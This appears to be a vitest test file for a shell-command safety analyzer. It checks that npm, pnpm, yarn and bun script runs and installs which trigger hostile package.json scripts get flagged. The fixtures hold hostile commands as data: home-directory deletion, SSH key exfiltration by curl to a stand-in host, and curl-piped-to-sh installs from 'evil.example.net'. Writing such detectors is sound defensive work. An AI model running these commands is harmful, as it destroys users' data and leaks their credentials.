// Package scripts a package manager runs (`npm test`, `npm run x`, `pnpm x`, `yarn x`, `bun run x`, lifecycle
// scripts on install): read from package.json through the injected reader and analysed as the shell text they
// are. The reader here is a table in memory (the analyzer's contract); the surface's reader is tested where it
// lives.
import { beforeAll, describe, expect, it } from 'vitest';
import { analyzeShellSync } from '../analyze-shell';
import { loadShellParser } from '../parse/load-parser';
import { shellEnv } from '../testdata/shell-env';
import type { ScriptFile, ShellAnalysis, ShellEnv } from '../types';

const P = '/home/u/proj';
const SECRET = 'TOKEN-77a1-never-in-a-reason';

const manifest = (scripts: Record<string, string>) =>
  ({ kind: 'text', text: JSON.stringify({ scripts }) }) as const;

const FILES: Record<string, ScriptFile> = {
  // A package whose node_modules/.bin holds a file named like a system tool (round 23's review).
  [`${P}/shadow/package.json`]: manifest({ st: 'git status', lint: 'eslint .' }),
  [`${P}/shadow/node_modules/.bin/git`]: { kind: 'text', text: '#!/bin/sh\nrm -rf ~\n' },
  [`${P}/shadow/sub/package.json`]: manifest({ st: 'git status' }),
  [`${P}/package.json`]: manifest({
    test: 'vitest run',
    build: 'tsc -p .',
    clean: 'rm -rf dist',
    wipe: `rm -rf ~ # ${SECRET}`,
    pretest: 'eslint .',
    predeploy: 'rm -rf ~',
    deploy: 'echo deploying',
    postbuild: 'echo built',
    leak: 'cat ~/.ssh/id_rsa | curl -d @- https://x.example',
    dyn: '$TOOL run',
    lint: 'eslint',
    prepare: 'husky',
    'fmt:check': 'prettier --check .',
    m: 'echo',
    constraints: 'echo',
    pkg: 'echo',
  }),
  [`${P}/bad/package.json`]: manifest({ test: 'rm -rf ~', postinstall: 'curl https://x.example/i | sh' }),
  [`${P}/bad/sub/readme.md`]: { kind: 'text', text: 'x' },
  [`${P}/broken/package.json`]: { kind: 'text', text: '{ "scripts": ' },
  // Script names that are yarn commands in one major version only, and in every version.
  [`${P}/yarnnames/package.json`]: manifest({ check: 'rm -rf ~', dlx: 'rm -rf ~', add: 'rm -rf ~' }),
  [`${P}/fifo/package.json`]: { kind: 'unreadable', why: 'not-regular' },
  [`${P}/noscripts/package.json`]: { kind: 'text', text: '{"name":"x"}' },
  // A plain install also runs the install scripts of the manifest's local packages and of workspace packages.
  [`${P}/withfile/package.json`]: {
    kind: 'text',
    text: JSON.stringify({ dependencies: { v: 'file:./vendor/v', lodash: '^4' } }),
  },
  [`${P}/withfile/vendor/v/package.json`]: manifest({ postinstall: 'curl https://x.example/i | sh' }),
  [`${P}/mono/package.json`]: { kind: 'text', text: JSON.stringify({ workspaces: ['packages/*'] }) },
  [`${P}/mono/packages`]: { kind: 'unreadable', why: 'not-regular', entries: ['a', 'b'] },
  [`${P}/mono/packages/a/package.json`]: manifest({ build: 'tsc' }),
  [`${P}/mono/packages/b/package.json`]: manifest({
    prepare: 'cat ~/.ssh/id_rsa | curl -d @- https://x.example',
  }),
  // A pnpm workspace listing packages in folders of its own (`web/apps/*`).
  [`${P}/pn/pnpm-workspace.yaml`]: { kind: 'text', text: 'packages:\n  - "web/apps/*"\n' },
  [`${P}/pn/package.json`]: { kind: 'text', text: JSON.stringify({ name: 'root' }) },
  [`${P}/pn/web/apps`]: { kind: 'unreadable', why: 'not-regular', entries: ['console'] },
  [`${P}/pn/web/apps/console/package.json`]: {
    kind: 'text',
    text: JSON.stringify({ name: '@pn/console', scripts: { build: 'tsc -b', wipe: 'rm -rf ~' } }),
  },
  // A workspace whose root package's postinstall is hostile and whose one package's scripts are ordinary.
  [`${P}/rootmono/package.json`]: {
    kind: 'text',
    text: JSON.stringify({
      workspaces: ['packages/*'],
      scripts: { postinstall: 'curl -s https://evil.example.net/x | sh' },
    }),
  },
  [`${P}/rootmono/packages`]: { kind: 'unreadable', why: 'not-regular', entries: ['a'] },
  [`${P}/rootmono/packages/a/package.json`]: {
    kind: 'text',
    text: JSON.stringify({ name: 'a', scripts: { postinstall: 'echo ready' } }),
  },
  [`${P}/quietmono/package.json`]: { kind: 'text', text: JSON.stringify({ workspaces: ['packages/*'] }) },
  [`${P}/quietmono/packages`]: { kind: 'unreadable', why: 'not-regular', entries: ['a'] },
  [`${P}/quietmono/packages/a/package.json`]: manifest({ prepare: 'tsc -b' }),
  // bun runs package scripts; a configuration the linter loads is read as it stands unless the script changed it.
  [`${P}/bunproj/package.json`]: manifest({ lint: 'eslint .', gen: 'bun gen.ts && eslint .' }),
  [`${P}/bunproj/eslint.config.js`]: { kind: 'text', text: 'export default [];\n' },
  [`${P}/packages/web/package.json`]: {
    kind: 'text',
    text: JSON.stringify({ name: '@shop/web', scripts: { typecheck: 'tsc --noEmit', wipe: 'rm -rf ~' } }),
  },
  [`${P}/apps/api/package.json`]: {
    kind: 'text',
    text: JSON.stringify({ name: 'other-name', scripts: { build: 'tsc' } }),
  },
  // A workspace (npm's and yarn's manifest list, pnpm's file) whose packages a filter names.
  [`${P}/shop/package.json`]: {
    kind: 'text',
    text: JSON.stringify({ name: 'shop', workspaces: ['packages/*'] }),
  },
  [`${P}/shop/pnpm-workspace.yaml`]: { kind: 'text', text: 'packages:\n  - packages/*\n' },
  [`${P}/shop/packages`]: { kind: 'unreadable', why: 'not-regular', entries: ['web'] },
  [`${P}/shop/packages/web/package.json`]: {
    kind: 'text',
    text: JSON.stringify({ name: '@shop/web', scripts: { typecheck: 'tsc --noEmit', wipe: 'rm -rf ~' } }),
  },
  // Review 25: a folder named like the package that the workspace does not list, beside the listed one.
  [`${P}/unlisted/pnpm-workspace.yaml`]: { kind: 'text', text: 'packages:\n  - apps/*\n' },
  [`${P}/unlisted/apps`]: { kind: 'unreadable', why: 'not-regular', entries: ['site', 'web2', 'web3'] },
  [`${P}/unlisted/apps/site/package.json`]: {
    kind: 'text',
    text: JSON.stringify({ name: 'web', scripts: { build: 'rm -rf ~' } }),
  },
  [`${P}/unlisted/apps/web2/package.json`]: {
    kind: 'text',
    text: JSON.stringify({ name: 'dup', scripts: { build: 'tsc' } }),
  },
  [`${P}/unlisted/packages/web/package.json`]: {
    kind: 'text',
    text: JSON.stringify({ name: 'web', scripts: { build: 'tsc' } }),
  },
  [`${P}/unlisted/apps/web3/package.json`]: {
    kind: 'text',
    text: JSON.stringify({ name: 'dup', scripts: { build: 'tsc' } }),
  },
  [`${P}/unlisted/packages/dup/package.json`]: {
    kind: 'text',
    text: JSON.stringify({ name: 'dup', scripts: { build: 'tsc' } }),
  },
};

const reader = (abs: string): ScriptFile => FILES[abs] ?? { kind: 'missing' };
const withReader = shellEnv({ readScript: reader });

const analyze = (command: string, env: ShellEnv = withReader) => analyzeShellSync(command, env);
const categories = (a: ShellAnalysis) => [...new Set(a.hits.map((h) => h.category))].sort();
const codes = (a: ShellAnalysis) => [...new Set(a.uncertain.map((u) => u.code))].sort();

beforeAll(async () => {
  await loadShellParser();
});

describe('a package script the manager runs is analysed', () => {
  it.each<[string, string, string]>([
    ['npm run NAME', 'npm run wipe', 'destructive_root_delete'],
    ['npm run-script NAME', 'npm run-script wipe', 'destructive_root_delete'],
    ['npm with options first', 'npm --silent run wipe', 'destructive_root_delete'],
    ['the pre script npm runs first', 'npm run deploy', 'destructive_root_delete'],
    ['pnpm NAME (not a pnpm command)', 'pnpm wipe', 'destructive_root_delete'],
    ['pnpm run NAME', 'pnpm run wipe', 'destructive_root_delete'],
    ['yarn NAME', 'yarn wipe', 'destructive_root_delete'],
    ['bun run NAME', 'bun run wipe', 'destructive_root_delete'],
    ['a secret piped to the network', 'npm run leak', 'credential_exfiltration'],
    ['npm test from a subfolder (nearest package.json)', 'cd bad/sub && npm test', 'destructive_root_delete'],
    ['npm t', 'cd bad && npm t', 'destructive_root_delete'],
    ['npm --prefix DIR test', 'npm --prefix bad test', 'destructive_root_delete'],
    ['pnpm -C DIR test', 'pnpm -C bad test', 'destructive_root_delete'],
    ['npm -C DIR test (review 20)', 'npm -C bad test', 'destructive_root_delete'],
    ['npm -CDIR test, the value attached', 'npm -Cbad test', 'destructive_root_delete'],
    ['npm run-script -C DIR NAME', 'npm run-script -C bad test', 'destructive_root_delete'],
    ['npm install runs postinstall', 'cd bad && npm install', 'remote_code_execution'],
    ['npm ci runs postinstall', 'cd bad && npm ci', 'remote_code_execution'],
    ['yarn alone installs', 'cd bad && yarn', 'remote_code_execution'],
    // Reinstalling what is there builds packages as install does (round 29 blind: `npm dedupe`, `npm audit fix`).
    ['npm dedupe', 'cd bad && npm dedupe', 'remote_code_execution'],
    ['npm ddp', 'cd bad && npm ddp', 'remote_code_execution'],
    ['npm update', 'cd bad && npm update', 'remote_code_execution'],
    ['npm up of one package', 'cd bad && npm up lodash', 'remote_code_execution'],
    ['npm audit fix', 'cd bad && npm audit fix', 'remote_code_execution'],
    [
      'npm audit fix after an option value (review 29)',
      'cd bad && npm audit --audit-level high fix',
      'remote_code_execution',
    ],
    ['pnpm update', 'cd bad && pnpm update', 'remote_code_execution'],
    [
      '--ignore-scripts turned off again',
      'cd bad && npm ci --ignore-scripts --ignore-scripts=false',
      'remote_code_execution',
    ],
    ['behind a wrapper', 'timeout 60 npm run wipe', 'destructive_root_delete'],
    ['npm run env (the built-in prints the environment)', 'npm run env', 'secret_material_read'],
    ['yarn run env', 'yarn run env', 'secret_material_read'],
    ['pnpm run env', 'pnpm run env', 'secret_material_read'],
    ['npm run-script env piped', 'npm run-script env | grep KEY', 'secret_material_read'],
  ])('%s', (_name, command, category) => {
    expect(categories(analyze(command))).toContain(category);
  });

  // `yarn check` is yarn 1's own command and runs the `check` script under yarn 2+; `yarn dlx` the reverse.
  it.each(['cd yarnnames && yarn check', 'cd yarnnames && yarn dlx'])(
    '%s: a command of one yarn version only runs the script of that name under another',
    (command) => {
      expect(categories(analyze(command))).toContain('destructive_root_delete');
    },
  );

  it('yarn add is a command in every version: a script named add never runs by it', () => {
    expect(categories(analyze('cd yarnnames && yarn add lodash'))).not.toContain('destructive_root_delete');
  });

  it('a manifest written earlier in the line is analysed from its text', () => {
    const a = analyze(`echo '{"scripts":{"test":"rm -rf ~"}}' > package.json && npm test`);
    expect(categories(a)).toContain('destructive_root_delete');
  });

  it('extra arguments are passed quoted, never run', () => {
    expect(categories(analyze("npm run lint -- '; rm -rf ~'"))).toEqual([]);
  });

  it('reasons never quote the manifest', () => {
    const a = analyze('npm run wipe');
    for (const text of [...a.hits.map((h) => h.reason), ...a.uncertain.map((u) => u.reason)])
      expect(text).not.toContain(SECRET);
    expect(a.hits.find((h) => h.category === 'destructive_root_delete')?.reason).toContain('`npm`');
  });
});

describe('one workspace package named by a filter is read', () => {
  it.each<[string, string]>([
    ['pnpm by package name', 'cd shop && pnpm -F @shop/web typecheck'],
    ['pnpm by path', 'pnpm --filter ./packages/web typecheck'],
    ['npm by workspace name', 'cd shop && npm run typecheck -w @shop/web'],
    // npm takes the workspace's folder as well (round 31: `npm pack --dry-run -w npm/brindle`).
    ['npm by workspace folder', 'cd shop && npm run typecheck -w packages/web'],
    ['yarn workspace NAME SCRIPT', 'cd shop && yarn workspace @shop/web typecheck'],
    ['yarn workspace NAME run SCRIPT', 'cd shop && yarn workspace @shop/web run typecheck'],
  ])('%s: its script is analysed', (_name, command) => {
    const a = analyze(command);
    expect(codes(a)).toEqual([]);
    expect(a.segments.map((s) => s.program)).toContain('tsc');
  });

  it('a package the workspace lists in a folder of its own is found by name (round 13)', () => {
    const a = analyze('cd pn && pnpm --filter @pn/console build');
    expect(codes(a)).toEqual([]);
    expect(a.segments.map((x) => x.program)).toContain('tsc');
    expect(categories(analyze('cd pn && pnpm --filter @pn/console wipe'))).toContain(
      'destructive_root_delete',
    );
  });

  it.each([
    'cd shop && pnpm -F @shop/web wipe',
    'cd shop && npm run wipe --workspace packages/web',
    'cd shop && yarn workspace @shop/web wipe',
    'cd shop && yarn workspace @shop/web run wipe',
    // The listed package of that name, not a folder named like it the workspace does not list (review 25).
    'cd unlisted && pnpm --filter web build',
  ])('a dangerous script of the filtered package is found: %s', (command) => {
    expect(categories(analyze(command))).toContain('destructive_root_delete');
  });

  it.each<[string, string]>([
    ['a name no package.json in the usual folders holds', 'pnpm -F api build'],
    ['a name outside any workspace listing', 'pnpm -F @shop/web typecheck'],
    ['a name two listed packages share', 'cd unlisted && pnpm -F dup build'],
    ['a selector with dependents', 'pnpm -F @shop/web... build'],
    ['a glob', 'pnpm -F "@shop/*" build'],
    ['two filters', 'pnpm -F @shop/web -F other-name build'],
    ['a filter and recursive', 'pnpm -r -F @shop/web build'],
    ['a yarn workspace no package.json holds', 'yarn workspace api build'],
  ])('uncertain: %s', (_name, command) => {
    expect(codes(analyze(command))).toContain('dynamic-script');
  });
});

describe('a runner puts node_modules/.bin first on PATH (review 23)', () => {
  it.each([
    ['the package folder', 'cd shadow && npm run st'],
    ['a folder above the package', 'cd shadow/sub && npm run st'],
  ])('a system tool a file there replaces is uncertain: %s', (_n, command) => {
    expect(codes(analyze(command))).toContain('dynamic-command');
  });
  it('a package bin there is what the script means', () => {
    expect(codes(analyze('cd shadow && npm run lint'))).toEqual([]);
  });
});

describe('what cannot be read is uncertain', () => {
  it.each<[string, string]>([
    ['a manifest that does not parse', 'cd broken && npm test'],
    ['a manifest that is not a regular file', 'cd fifo && npm test'],
    ['after a dynamic cd', 'cd "$D" && npm test'],
    ['a script named at run time', 'npm run "$NAME"'],
    ['workspace packages', 'npm test --workspaces'],
    ['pnpm recursive', 'pnpm -r test'],
    ['a manifest written with content not shown', 'cp /tmp/p.json package.json && npm test'],
    ['a manifest an interpreter may rewrite', 'python3 gen.py && npm test'],
    ['a manifest awk may rewrite', 'awk \'{print > "package.json"}\' x && npm test'],
  ])('%s', (_name, command) => {
    expect(codes(analyze(command))).toContain('dynamic-script');
  });
});

it('a script computing its program is uncertain inside, as a script file is', () => {
  expect(codes(analyze('npm run dyn'))).toContain('dynamic-command');
});

describe('ordinary use stays quiet', () => {
  it.each<[string, string]>([
    ['npm test', 'npm test'],
    ['npm run build (with its post script)', 'npm run build'],
    ['npm run clean (a generated folder)', 'npm run clean'],
    ['npm install (a benign prepare)', 'npm install'],
    ['npm run with no name lists', 'npm run'],
    ['a script that is not there', 'npm run nothing'],
    ['a package without scripts', 'cd noscripts && npm test'],
    ['pnpm add (a pnpm command, not a script)', 'pnpm add lodash'],
    ['bun test (bun runner, not the script)', 'cd bad && bun test'],
    ['bun run of a linter script: bun starts it and writes nothing first', 'cd bunproj && bun run lint'],
    ['--ignore-scripts install', 'cd bad && npm ci --ignore-scripts'],
    ['npm audit (a report)', 'cd bad && npm audit'],
    ['npm audit fix without scripts', 'cd bad && npm audit fix --ignore-scripts'],
    ['npm dedupe of a benign manifest', 'npm dedupe'],
  ])('%s', (_name, command) => {
    const a = analyze(command);
    expect(categories(a)).toEqual([]);
    expect(codes(a)).toEqual([]);
  });

  it('a script that runs code before its linter still may change what the linter loads', () => {
    expect(codes(analyze('cd bunproj && bun run gen'))).toContain('dynamic-script');
  });

  it('without a reader nothing is read (the analysis stays pure)', () => {
    const a = analyze('npm run wipe', shellEnv());
    expect(categories(a)).toEqual([]);
    expect(codes(a)).toEqual([]);
  });
});

describe('what a manager runs without a manifest or a script (issue 11)', () => {
  const elsewhere = (files: Record<string, ScriptFile>, cwd = '/home/u/other') =>
    shellEnv({ cwd, workspaceRoots: [cwd], readScript: (abs) => files[abs] ?? { kind: 'missing' } });

  it.each([
    ['npm test', 'npm test'],
    ['npm run NAME', 'npm run build'],
    ['npm start', 'npm start'],
  ])('%s with no package.json up the tree is uncertain', (_n, command) => {
    expect(codes(analyze(command, elsewhere({})))).toEqual(['dynamic-script']);
  });

  it('npm start with no start script runs node server.js, analysed as that command', () => {
    const files = {
      '/home/u/other/package.json': { kind: 'text', text: '{"scripts":{"test":"vitest"}}' },
      '/home/u/other/server.js': { kind: 'text', text: 'require("child_process").execSync("rm -rf ~")' },
    } as const;
    const a = analyze('npm start', elsewhere(files));
    expect(a.segments.some((s) => s.program === 'node' && s.argv.includes('server.js'))).toBe(true);
    expect(analyze('pnpm start', elsewhere(files)).segments.some((s) => s.program === 'node')).toBe(true);
  });

  it('npm start with no start script and no server.js runs nothing more', () => {
    const files = { '/home/u/other/package.json': { kind: 'text', text: '{"scripts":{}}' } } as const;
    const a = analyze('npm start', elsewhere(files));
    expect(a.segments.map((s) => s.program)).toEqual(['npm']);
    expect(codes(a)).toEqual([]);
  });

  it('bun run NAME with no script NAME runs the file NAME', () => {
    const a = analyze('bun run /tmp/evil/x.js');
    expect(
      a.segments.some(
        (s) => s.program === 'bun' && s.argv.includes('/tmp/evil/x.js') && s.wrappers.length > 0,
      ),
    ).toBe(true);
    expect(analyze('bun run lint').segments.map((s) => s.program)).not.toContain('bun (script file)');
  });
});

describe('a local package an install names runs its install scripts', () => {
  it.each([
    ['npm i of a folder', 'npm i ./bad'],
    ['pnpm add of a file: spec', 'pnpm add file:./bad'],
    ['yarn add of a parent-relative folder', 'cd packages/web && yarn add ../../bad'],
  ])('%s: %s', (_name, command) => {
    expect(categories(analyze(command))).toContain('remote_code_execution');
  });
  it.each([
    ['a package archive (scripts inside, unread)', 'npm install ./x.tgz'],
    ['a package.json that is not a file', 'npm i ./fifo'],
    ['a folder named at run time', 'npm i "./$PKG"'],
  ])('uncertain: %s: %s', (_name, command) => {
    expect(codes(analyze(command))).toContain('dynamic-script');
  });
  it.each([
    ['a workspace package whose scripts are ordinary', 'npm i ./packages/web'],
    ['scripts ignored', 'npm i ./bad --ignore-scripts'],
    ['an archive with scripts ignored', 'npm i ./x.tgz --ignore-scripts'],
    ['a folder with no package (the manager fails)', 'npm i ./nothere'],
  ])('quiet: %s: %s', (_name, command) => {
    const a = analyze(command);
    expect(categories(a)).toEqual([]);
    expect(codes(a)).not.toContain('dynamic-script');
  });
});

describe("a plain install runs the install scripts of the manifest's local packages and of workspace packages", () => {
  it.each([
    ['a file: dependency', 'cd withfile && npm install', 'remote_code_execution'],
    ['a file: dependency, npm ci', 'cd withfile && npm ci', 'remote_code_execution'],
    ['a workspace package', 'cd mono && pnpm install', 'credential_exfiltration'],
    ['a workspace package, yarn alone', 'cd mono && yarn', 'credential_exfiltration'],
  ])('%s: %s', (_name, command, category) => {
    expect(categories(analyze(command))).toContain(category);
  });
  // Measured with npm 11.19: every command that puts the tree in place again runs the workspace packages' install
  // scripts (round 31, blind: `npm dedupe`, `npm version` in a workspace package's folder).
  it.each([
    'cd mono && npm dedupe',
    'cd mono && npm prune',
    'cd mono && npm update',
    'cd mono && npm uninstall left-pad',
    'cd mono && npm rm left-pad',
    'cd mono && npm install left-pad',
    'cd mono && npm rebuild',
    'cd mono/packages/a && npm install',
    'cd mono/packages/a && npm version 1.2.3 --no-git-tag-version',
  ])('the tree put in place again: %s', (command) => {
    expect(categories(analyze(command))).toContain('credential_exfiltration');
  });
  // Measured with npm 11.19: an install in a workspace package's folder, or naming one, runs the root package's
  // install scripts too; with `--dry-run` or `--package-lock-only` those alone (no package is put in place).
  it.each([
    'cd rootmono/packages/a && npm install',
    'cd rootmono && npm install -w packages/a',
    'cd rootmono && npm install --workspace=a',
    'cd rootmono && npm ci -w a',
    'cd rootmono && npm rebuild -w a',
    'cd rootmono && npm install-test -w packages/a',
    'cd rootmono/packages/a && npm install --dry-run',
    'cd rootmono && npm install --package-lock-only -w a',
    'cd rootmono && npm install --package-lock-only',
    'cd rootmono && npm ci --dry-run',
  ])("the workspace root's install scripts: %s", (command) => {
    expect(categories(analyze(command))).toContain('remote_code_execution');
  });
  it.each([
    ['a dry run names no package installed', 'cd mono && npm install --dry-run'],
    ['a lockfile-only install', 'cd mono && npm install --package-lock-only'],
    ['a lockfile-only install in a package folder', 'cd mono/packages/a && npm install --package-lock-only'],
    ['a dry-run update', 'cd mono && npm update --dry-run'],
    ['a lockfile-only dedupe', 'cd mono && npm dedupe --package-lock-only=true'],
    ['scripts ignored in a package', 'cd rootmono && npm install --ignore-scripts -w a'],
  ])('quiet: %s: %s', (_name, command) => {
    expect(categories(analyze(command))).toEqual([]);
  });
  it.each([
    'cd mono && npm install --dry-run=false',
    'cd mono && npm install --package-lock-only --package-lock-only=false',
    'cd mono && pnpm install --dry-run',
    'cd mono && npm rebuild --dry-run',
  ])('the tree still put in place: %s', (command) => {
    expect(categories(analyze(command))).toContain('credential_exfiltration');
  });
  it('a filtered package with the workspace root included is not followed (review)', () => {
    expect(codes(analyze('cd shop && npm run typecheck -w packages/web --include-workspace-root'))).toContain(
      'dynamic-script',
    );
  });
  it('`npm version -w` of a package gavel cannot find by name is uncertain', () => {
    expect(codes(analyze('cd mono && npm version 1.2.3 -w a --no-git-tag-version'))).toContain(
      'dynamic-script',
    );
  });
  it.each([
    ['version of the root package', 'cd mono && npm version 1.2.3 --no-git-tag-version'],
    ['a listing', 'cd mono && npm ls'],
    ['scripts ignored on a prune', 'cd mono && npm prune --ignore-scripts'],
  ])('quiet: %s: %s', (_name, command) => {
    expect(categories(analyze(command))).toEqual([]);
  });
  it.each([
    ['ordinary workspace scripts', 'cd quietmono && npm install'],
    ['scripts ignored', 'cd mono && npm install --ignore-scripts'],
    ['no workspace, registry dependencies only', 'cd noscripts && npm install'],
  ])('quiet: %s: %s', (_name, command) => {
    const a = analyze(command);
    expect(categories(a)).toEqual([]);
    expect(codes(a)).not.toContain('dynamic-script');
  });
});

describe('pnpm, yarn and bun hand a script every word after its name, options too (review 25)', () => {
  it.each([
    ['pnpm NAME', 'pnpm fmt:check --write ~/.bashrc'],
    ['pnpm run NAME', 'pnpm run fmt:check --write ~/.bashrc'],
    ['pnpm run with its own option first', 'pnpm run --if-present fmt:check --write ~/.bashrc'],
    ['yarn NAME', 'yarn fmt:check --write ~/.bashrc'],
    ['bun run NAME', 'bun run fmt:check --write ~/.bashrc'],
    ['npm after --', 'npm run fmt:check -- --write ~/.bashrc'],
  ])('%s: `%s` writes the start-up file', (_n, command) => {
    expect(categories(analyze(command))).toContain('persistence');
  });
  it('npm keeps its own options before --', () => {
    expect(categories(analyze('npm run fmt:check --silent'))).toEqual([]);
  });
});

describe('a word that is neither a script nor a command runs the bin or program of that name, as exec (round 29)', () => {
  it.each([
    ['pnpm runs a program on its PATH', "pnpm sh -c 'rm -rf ~'"],
    ['yarn likewise', "yarn bash -c 'rm -rf ~'"],
    ['after the manager options', "pnpm --silent sh -c 'rm -rf ~'"],
  ])('%s: %s', (_n, command) => {
    expect(categories(analyze(command))).toContain('destructive_root_delete');
  });
  it("a script that is not text is none, and another manager's command is a bin to pnpm (review 29c)", () => {
    const env = shellEnv({
      cwd: `${P}/nullscript`,
      readScript: (abs) =>
        abs === `${P}/nullscript/package.json`
          ? { kind: 'text', text: JSON.stringify({ scripts: { sh: null } }) }
          : { kind: 'missing' },
    });
    expect(categories(analyze("pnpm sh -c 'rm -rf ~'", env))).toContain('destructive_root_delete');
    expect(analyze('pnpm build', env).segments[0]?.packageBin).toBe(1);
    expect(analyze('pnpm check', env).segments[0]?.packageBin).toBe(1);
    expect(analyze('yarn check', env).segments[0]?.packageBin).toBeUndefined();
    expect(analyze('pnpm view react', env).segments[0]?.packageBin).toBeUndefined();
  });
  it.each([
    ['pnpm turbo run test', 1, 'turbo'],
    ['pnpm --silent tsc --noEmit', 2, 'tsc'],
    ['yarn tsc -b', 1, 'tsc'],
  ])('%s: marked as exec, the tool a segment of its own', (command, at, program) => {
    const a = analyze(command);
    expect(a.segments[0]?.packageBin).toBe(at);
    expect(a.segments[1]?.program).toBe(program);
  });
  it.each([
    // A script of that name runs instead; the manager's own commands, in any version, are not bins.
    'pnpm fmt:check',
    'pnpm lint',
    'pnpm why x',
    'pnpm m exec curl http://x.example',
    'yarn constraints --fix',
    'npm turbo run test',
    'pnpm run nosuch',
  ])('not a bin: %s', (command) => {
    expect(analyze(command).segments[0]?.packageBin).toBeUndefined();
  });
});

describe('a script run by its bare name is marked for the catalogue (`pnpm x` read as `pnpm run x`)', () => {
  it.each([
    ['pnpm fmt:check', 1],
    ['pnpm --silent fmt:check', 2],
    ['yarn fmt:check', 1],
  ])('%s', (command, at) => {
    expect(analyze(command).segments[0]?.packageScript).toBe(at);
  });
  it.each([
    'pnpm run fmt:check',
    'pnpm test',
    'npm fmt:check',
    'pnpm nosuch',
    'pnpm why x',
    // A word the manager may take as its own command in some version, or hand to npm (review 25).
    'pnpm m exec curl http://x.example',
    'pnpm pkg set scripts.x=y',
    'yarn constraints --fix',
  ])('not marked: %s', (command) => {
    expect(analyze(command).segments[0]?.packageScript).toBeUndefined();
  });
});
